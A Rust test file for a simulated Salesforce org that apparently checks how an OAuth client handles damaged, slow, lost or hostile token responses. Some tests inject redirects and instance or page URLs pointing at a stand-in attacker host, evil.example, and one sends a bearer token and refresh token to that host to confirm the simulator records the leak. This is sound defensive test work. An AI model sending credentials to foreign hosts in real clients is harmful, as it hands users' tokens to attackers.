//! Token answers that are damaged, late, lost or hostile, as a client meets them.

use std::time::{Duration, Instant};

use salesforce_sim::{Action, Fault, SimulatedOrg, Violation};
use serde_json::json;

use crate::client::{Answer, Story, query_path};

const TOKEN: &str = "/services/oauth2/token";

fn status(code: u16, headers: &[(&str, &str)]) -> Action {
    let headers =
        headers.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Action::Status { code, body: String::new(), content_type: None, headers }
}

/// The answer to a refresh that meets `action`.
fn refreshed_with(action: Action) -> Answer {
    let story = Story::new();
    let token = story.org.issue_refresh_token();
    story.org.faults().push(Fault::new(action).on_path(TOKEN));
    let answer = story.refresh(&token);
    assert_eq!(story.org.refreshes(), 1, "it was carried out");
    answer
}

#[test]
fn a_token_answer_can_be_empty_cut_marked_or_mislabelled() {
    let empty = refreshed_with(Action::TruncateBody { bytes: 0 });
    assert_eq!((empty.status, empty.text.as_str()), (200, ""));
    let cut = refreshed_with(Action::TruncateBody { bytes: 40 });
    assert_eq!(cut.text.len(), 40);
    assert!(serde_json::from_str::<serde_json::Value>(&cut.text).is_err());
    // The client strips the mark from the text; its bytes are counted by the length.
    let marked = refreshed_with(Action::Bom);
    assert!(marked.text.trim_start_matches('\u{feff}').starts_with('{'));
    let page = Action::SetHeader { name: "Content-Type".into(), value: "text/html".into() };
    let mislabelled = refreshed_with(page);
    assert_eq!(mislabelled.header("content-type"), Some("text/html"));
    assert!(mislabelled.json()["access_token"].is_string());
    let form = refreshed_with(Action::FormBody);
    assert!(form.text.starts_with("access_token=00D"), "{}", form.text);
    assert_eq!(
        form.header("content-type"),
        Some("application/x-www-form-urlencoded;charset=UTF-8")
    );
    let keys = refreshed_with(Action::ExtraKeys);
    assert!(keys.json().get("futureKey").is_some());
}

#[test]
fn the_connection_can_break_after_the_refresh_was_carried_out() {
    let story = Story::of(
        SimulatedOrg::builder().policy(|policy| policy.rotate_refresh_tokens = true).start(),
    );
    let token = story.org.issue_refresh_token();
    let form = [
        ("grant_type", "refresh_token"),
        ("refresh_token", token.as_str()),
        ("client_id", story.org.client_id()),
        ("client_secret", story.org.client_secret()),
    ];
    story.org.faults().push(Fault::new(Action::CloseBeforeAnswer).on_grant("refresh_token"));
    assert!(story.client.post(story.url(TOKEN)).form(&form).send().is_err());
    assert_eq!(story.org.refreshes(), 1);
    assert_eq!(story.org.journal()[0].status, None);
    // The token is spent although nobody saw its successor: another try is a replay.
    assert_eq!(story.refresh(&token).oauth_error().1, "expired access/refresh token");
    assert_eq!(story.org.grants_lost_to_replay(), 1);
}

#[test]
fn a_code_is_spent_even_if_the_answer_is_lost() {
    let story = Story::new();
    let code = story.code(&[]);
    let redirect_uri = story.org.redirect_uri();
    let form = [
        ("grant_type", "authorization_code"),
        ("code", code.as_str()),
        ("redirect_uri", redirect_uri.as_str()),
        ("client_id", story.org.client_id()),
        ("client_secret", story.org.client_secret()),
    ];
    story.org.faults().push(Fault::new(Action::Reset { bytes: None }).on_path(TOKEN));
    assert!(story.client.post(story.url(TOKEN)).form(&form).send().is_err());
    assert_eq!(story.exchange(&code, &[]).oauth_error().1, "expired authorization code");
}

#[test]
fn a_token_answer_can_be_slow() {
    let story = Story::new();
    let token = story.org.issue_refresh_token();
    story.org.faults().push(Fault::new(Action::Drip { bytes: 200, pause_ms: 60 }).on_path(TOKEN));
    let start = Instant::now();
    let answer = story.refresh(&token);
    assert!(answer.json()["access_token"].is_string());
    assert!(start.elapsed() >= Duration::from_millis(120));
}

#[test]
fn each_redirect_can_come_from_each_endpoint_and_leads_where_the_test_says() {
    let story = Story::new();
    let token = story.org.issue_refresh_token();
    let target = "https://evil.example/collect?x=1";
    for code in [301, 302, 303, 307, 308] {
        for path in [TOKEN, "/services/oauth2/revoke", "/services/data"] {
            story
                .org
                .faults()
                .set([Fault::new(status(code, &[("Location", target)])).on_path(path)]);
            let answer = match path {
                TOKEN => story.refresh(&token),
                "/services/data" => story.query("SELECT Id FROM User LIMIT 1"),
                _ => story.post(path, &[("token", &token)]),
            };
            assert_eq!((answer.status, answer.header("location")), (code, Some(target)), "{path}");
        }
    }
    story.org.faults().clear();
    assert_eq!(story.refresh(&token).status, 200, "none of them was carried out");
    assert!(story.org.violations().is_empty());
}

#[test]
fn a_token_answer_can_name_hosts_of_somebody_else() {
    let evil = "https://acme.my.salesforce.com.evil.example";
    let set = |pointer: &str| Action::SetJson { pointer: pointer.into(), value: json!(evil) };
    let answer = refreshed_with(set("/instance_url")).json();
    assert_eq!(answer["instance_url"], evil);
    assert!(answer["access_token"].as_str().is_some_and(|token| token.starts_with("00D")));
    assert_eq!(refreshed_with(set("/id")).json()["id"], evil);
    let without = refreshed_with(Action::RemoveJson { pointer: "/instance_url".into() }).json();
    assert!(without.get("instance_url").is_none());
}

#[test]
fn a_page_can_name_a_next_page_of_somebody_else() {
    let story =
        Story::of(SimulatedOrg::builder().users(30).policy(|p| p.page_size = Some(10)).start());
    let next = "https://evil.example/services/data/v60.0/query/01g";
    let action = Action::SetJson { pointer: "/nextRecordsUrl".into(), value: json!(next) };
    story.org.faults().push(Fault::new(action).on_object("User"));
    let page = story.query("SELECT Id FROM User").json();
    assert_eq!((&page["nextRecordsUrl"], &page["done"]), (&json!(next), &json!(false)));
    let url = "/services/data/v60.0/sobjects/Account/001";
    let action = Action::SetJson { pointer: "/records/0/attributes/url".into(), value: json!(url) };
    story.org.faults().push(Fault::new(action).on_object("User"));
    let page = story.query("SELECT Id FROM User").json();
    assert_eq!(page["records"][0]["attributes"]["url"], url);
}

#[test]
fn what_a_client_gives_away_at_a_foreign_host_is_noted() {
    let story = Story::of(SimulatedOrg::builder().users(30).foreign_host("Evil.example").start());
    let token = story.org.issue_refresh_token();
    let evil = |path: &str| format!("https://evil.example{path}");
    let data = story.client.get(evil(&query_path("SELECT Id FROM User"))).bearer_auth(&story.token);
    assert_eq!(Answer::of(data.send().expect("an answer")).text, "{}");
    let form = [("grant_type", "refresh_token"), ("refresh_token", token.as_str())];
    story.client.post(evil(TOKEN)).form(&form).send().expect("an answer");
    story.client.get(evil("/")).send().expect("an answer");
    let noted: Vec<Vec<Violation>> =
        story.org.journal().into_iter().map(|entry| entry.violations).collect();
    assert_eq!(
        noted,
        [
            vec![Violation::ForeignHost, Violation::AuthorizationToForeignHost],
            vec![Violation::ForeignHost, Violation::SecretToForeignHost],
            vec![Violation::ForeignHost],
        ]
    );
}
